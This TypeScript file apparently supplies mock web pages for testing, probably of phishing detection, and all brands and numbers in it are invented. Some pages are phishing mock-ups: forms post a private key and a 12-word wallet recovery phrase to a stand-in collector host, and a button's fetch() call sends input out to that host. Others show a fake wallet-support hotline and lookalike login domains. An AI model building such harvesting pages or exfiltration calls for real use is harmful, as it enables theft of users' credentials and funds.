/** The pages of the small internet. Every brand in them is invented, and every number is nobody's. */

const page = (title: string, body: string): string =>
  `<!doctype html><html lang="en"><head><title>${title}</title></head><body>${body}</body></html>`;

/** Sends what it is given to another host, by a form and by a script. */
const FORM = `<form action="http://collector.example/take" method="post">
  <label for="field">Enter it here</label><textarea id="field" name="field"></textarea>
  <label for="key">Private key</label><input id="key" name="key">
  <button id="send">Send</button></form>
  <button id="script" onclick="fetch('http://collector.example/script', { method: 'POST', mode: 'no-cors', body: document.querySelector('#field').value })">Next</button>`;

const FIELDS = `<form action="http://collector.example/fields" method="post">${Array.from(
  { length: 12 },
  (_, i) => `<input class="word" name="w${i}" aria-label="Word ${i + 1}">`,
).join('')}<button id="send">Restore</button></form>`;

const HOTLINE = `<h1>Lanternfish Wallet customer support</h1>
  <p>Lanternfish Wallet official hotline: +44 20 7946 0111. Our agents unfreeze your wallet, day and night. Call support now.</p>
  <form style="position:fixed;bottom:0;right:0"><label for="name">Your name</label><input id="name"><button>Call me</button></form>`;

export const PAGES = {
  'plain.example': page('Plain', `<h1>Plain</h1>${FORM}`),
  'fields.example': page('Fields', `<h1>Restore your wallet</h1>${FIELDS}`),
  'framing.example': page(
    'Framing',
    '<iframe src="http://plain.example/" width="600" height="400"></iframe>',
  ),
  'lanternfish.example': page('Lanternfish', `<h1>Lanternfish Wallet</h1>${FORM}`),
  'hotline-pages.example': page('Support', HOTLINE),
  'bakery.example': page(
    'Bakery',
    '<h1>Bakery</h1><p>Order by phone: +44 20 7946 0222. Customer service from 6.</p>',
  ),
  'lanternfish-wallet-login.example': page('Lanternfish', '<h1>Log in</h1>'),
  'www.lanternfish-wallet-login.example': page('Lanternfish', '<h1>Log in</h1>'),
} as const;
